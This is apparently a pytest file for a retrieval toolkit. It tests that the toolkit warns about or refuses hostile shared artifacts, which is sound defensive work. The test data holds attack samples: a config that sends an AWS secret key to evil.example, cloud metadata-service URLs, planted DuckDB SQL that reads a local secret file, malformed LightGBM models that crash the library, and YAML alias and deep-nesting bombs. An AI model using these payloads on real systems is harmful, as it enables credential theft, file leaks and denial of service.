"""Defects from a user trial of shared artifacts (persona AJ: a security reviewer who assumes a colleague's
configs, models and store files may be hostile), each as the user met it: a config that sends any
environment variable to any URL, a store file whose SQL reads local files, a hand-edited model that crashes
LightGBM, a file in the working directory standing in for a preset, and configs that cost memory out of
proportion to their size."""

from __future__ import annotations

import json
import re
import warnings
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner

from toolkit.cli import main
from toolkit.config import ConfigWarning, load_config
from toolkit.errors import InputError, StoreError
from toolkit.learned_fusion import FusionModel, booster_problem
from toolkit.store import Store, fts_extension_path

SHIPPED = Path(__file__).resolve().parents[1] / "toolkit" / "models" / "learned-fusion.json"


def _config(tmp_path: Path, url: str, var: str | None = "AWS_SECRET_ACCESS_KEY") -> Path:
    f = tmp_path / "shared.yaml"
    key = f"\n  api_key_env: {var}" if var else ""
    f.write_text(f"retrieval: {{dense: {{enabled: false}}}}\nrerank:\n  provider: http\n  url: {url}{key}\n")
    return f


def test_a_config_file_that_sends_a_key_elsewhere_says_where_before_anything_is_sent(tmp_path):
    """`rerank.api_key_env: AWS_SECRET_ACCESS_KEY` and a URL of the config's choosing sent the secret as a bearer
    token with the user's documents, and said nothing without -v."""
    with pytest.warns(ConfigWarning, match=r"rerank sends the value of \$AWS_SECRET_ACCESS_KEY to evil\.example"):
        load_config(_config(tmp_path, "https://evil.example/v1/rerank"))
    with pytest.warns(ConfigWarning, match=r"over unencrypted http to 10\.1\.2\.3"):
        load_config(_config(tmp_path, "http://10.1.2.3:8080/v1/rerank", "RERANK_API_KEY"))
    with warnings.catch_warnings():  # a known provider's API, this machine, or no key: nothing to say
        warnings.simplefilter("error")
        load_config(_config(tmp_path, "https://api.jina.ai/v1/rerank", "JINA_API_KEY"))
        load_config(_config(tmp_path, "http://127.0.0.1:8000/v1/rerank", "LOCAL_KEY"))
        load_config(_config(tmp_path, "https://evil.example/v1/rerank", None))
        load_config(_config(tmp_path, "HTTPS://api.jina.ai/v1/rerank", "JINA_API_KEY"))  # the scheme in any case


@pytest.mark.parametrize("url", ["http://169.254.169.254/latest/meta-data/", "http://0xa9fea9fe/x", "http://[fe80::1]:80/x",
                                 "http://metadata.google.internal/computeMetadata/v1/", "http://[::ffff:169.254.169.254]/x",
                                 "http://[::ffff:a9fe:a9fe]/x", "http://[fd00:ec2::254]/latest/"])
def test_a_link_local_url_is_refused(tmp_path, url):
    """A cloud's instance metadata service answers on the link-local address, with the machine's credentials."""
    with pytest.raises(InputError, match="link-local address"):
        load_config(_config(tmp_path, url, None))


def _plant(path: Path, *sql: str) -> None:
    con = duckdb.connect(str(path))
    con.execute("LOAD '" + fts_extension_path().replace("'", "''") + "'")
    for s in sql:
        con.execute(s)
    con.close()


def test_sql_kept_in_a_store_file_can_read_no_file_and_a_view_is_refused(tmp_path):
    """A planted `fts_main_chunks.tokenize` read a local file into every search's error; a view over `chunks`
    added the file to every result (and to what the reranker was sent)."""
    secret = tmp_path / "secret.txt"
    secret.write_text("top-secret-value-42")
    good = tmp_path / "good.duckdb"
    with Store(good) as st:
        st.ingest([{"doc_id": "d1", "text": "the deploy failed"}, {"doc_id": "d2", "text": "lunch moved"}], embed=False)
        assert st.con.execute("SELECT current_setting('enable_external_access')").fetchone()[0] is False
    macro = tmp_path / "macro.duckdb"
    macro.write_bytes(good.read_bytes())
    _plant(macro, f"CREATE OR REPLACE MACRO fts_main_chunks.tokenize(s) AS "
                  f"error('LEAK:' || (SELECT content FROM read_text('{secret}')))")
    r = CliRunner().invoke(main, ["search", "deploy", "--store", str(macro), "--mode", "lexical"])
    assert r.exit_code == 2 and "SQL kept in the store file asked for it" in r.stderr, r.output
    assert "top-secret" not in r.output
    view = tmp_path / "view.duckdb"
    view.write_bytes(good.read_bytes())
    _plant(view, "ALTER TABLE chunks RENAME TO chunks_real", "CREATE VIEW chunks AS SELECT * FROM chunks_real")
    with pytest.raises(StoreError, match=r"holds view\(s\) main\.chunks, which no toolkit store has"):
        Store(view, read_only=True)
    # A view over `meta`, the first table an open reads: refused before it runs (review of the first fix).
    meta = tmp_path / "meta.duckdb"
    meta.write_bytes(good.read_bytes())
    _plant(meta, "ALTER TABLE meta RENAME TO meta_real",
           f"CREATE VIEW meta AS SELECT key, value FROM meta_real UNION ALL SELECT 'x', error('LEAK:' || content) "
           f"FROM read_text('{secret}')")
    for read_only in (True, False):
        with pytest.raises(StoreError, match=r"holds view\(s\) main\.meta") as e:
            Store(meta, read_only=read_only)
        assert "top-secret" not in str(e.value)


def _edit_tree0(booster: str, key: str, value: str) -> str:
    """The shipped model's text with one line of its first tree replaced (tree_sizes= kept in step)."""
    start = booster.index("Tree=0\n")
    end = booster.index("\nTree=1\n") + 1
    old = booster[start:end]
    new = re.sub(rf"^{key}=.*$", f"{key}={value}", old, count=1, flags=re.M)
    text = booster[:start] + new + booster[end:]
    sizes = text[text.index("tree_sizes=") :].split("\n", 1)[0].split("=", 1)[1].split()
    sizes[0] = str(int(sizes[0]) + len(new.encode()) - len(old.encode()))
    return re.sub(r"^tree_sizes=.*$", "tree_sizes=" + " ".join(sizes), text, count=1, flags=re.M)


def test_a_hand_edited_learned_model_is_refused_before_lightgbm_reads_it(tmp_path):
    """A feature index out of range was a segfault, a wrong num_leaves an abort, a child pointing back an endless
    loop, and a leaf index out of range ran on."""
    doc = json.loads(SHIPPED.read_text())
    feats, booster = doc["features"], doc["booster"]
    assert booster_problem(booster, feats) is None
    tree0 = booster[booster.index("Tree=0\n") : booster.index("\nTree=1\n")]
    left = re.search(r"^left_child=(.*)$", tree0, flags=re.M).group(1).split()
    right = re.search(r"^right_child=(.*)$", tree0, flags=re.M).group(1).split()
    cases = {
        ("split_feature", "99999999 " + " ".join(["0"] * 13)): "split_feature= names a feature outside",
        ("num_leaves", "2"): "split_feature= holds 14 values, num_leaves=2 needs 1",
        ("left_child", " ".join(["0", *left[1:]])): "node 0 has child node 0",
        ("right_child", " ".join([*right[:-1], "-99999"])): "beyond num_leaves=15",
    }
    for (key, value), message in cases.items():
        assert message in (booster_problem(_edit_tree0(booster, key, value), feats) or ""), key
    # A linear tree's leaf_features were not checked (an index out of range segfaulted), nor the header's counts
    # (num_tree_per_iteration=0 divided by zero): review of the first fix.
    assert "a linear tree" in booster_problem(_edit_tree0(booster, "is_linear", "1"), feats)
    assert "num_tree_per_iteration=0" in booster_problem(booster.replace("num_tree_per_iteration=1", "num_tree_per_iteration=0"), feats)
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps({**doc, "booster": _edit_tree0(booster, "right_child", " ".join([*right[:-1], "-99999"]))}))
    with pytest.raises(InputError, match="tree 0: node 13 has leaf 99998"):
        FusionModel.load(bad)


def test_a_preset_name_is_the_preset_even_beside_a_file_of_that_name(tmp_path, monkeypatch):
    """A cloned folder holding a file named `default` made `--config default` run that file (and send its key)."""
    monkeypatch.chdir(tmp_path)
    Path("qmd").write_text("name: planted\nfusion: {rrf_k: 5}\n")
    with pytest.warns(ConfigWarning, match=r"is the preset of that name, not the file qmd"):
        assert load_config("qmd").name == "qmd"
    assert load_config("./qmd").name == "planted" and load_config(Path("qmd")).name == "planted"


_KEYS = ", ".join(f"k{i}" for i in range(200))
# (reader, file, text, message): 3,000 aliases of one list (29 KB) took 12 s and 400 MB to load, and 100,000 nested
# brackets raised a RecursionError with a traceback; search-space files went through plain yaml.safe_load (no alias
# cap, repeated keys kept silently: review of the config fixes).
_OVERSIZED = [
    ("config", "many.yaml", "tuned_on: [&r {dataset: d, split: s, query_keys: [" + _KEYS + "]}" + ", *r" * 300 + "]\n",
     "more than 100 aliases"),
    ("config", "deep.json", '{"description": ' + "[" * 100_000 + "]" * 100_000 + "}", "nested too deeply"),
    ("space", "space.yaml", "fusion.rrf_k: &r [10, 20]\n" + "".join(f"k{i}: *r\n" for i in range(150)), "more than 100 aliases"),
    ("space", "dup.yaml", "fusion.rrf_k: [10, 20]\nfusion.rrf_k: [30]\n", "duplicate key"),
    ("space", "deep.yaml", "a: " + "[" * 50_000 + "]" * 50_000 + "\n", "nested too deeply"),
]


@pytest.mark.parametrize(("reader", "name", "text", "message"), _OVERSIZED, ids=[f"{r}-{n}" for r, n, _, _ in _OVERSIZED])
def test_many_aliases_repeated_keys_and_deep_nesting_are_refused_quickly(tmp_path, reader, name, text, message):
    from toolkit.tune import load_space

    f = tmp_path / name
    f.write_text(text)
    with pytest.raises(InputError, match=message):
        (load_config if reader == "config" else load_space)(f)


def test_a_plain_tuning_space_file_still_reads(tmp_path):
    from toolkit.tune import load_space

    ok = tmp_path / "ok.yaml"
    ok.write_text("fusion.rrf_k: [10, 60]\n")
    assert load_space(ok) == {"fusion.rrf_k": [10, 60]}
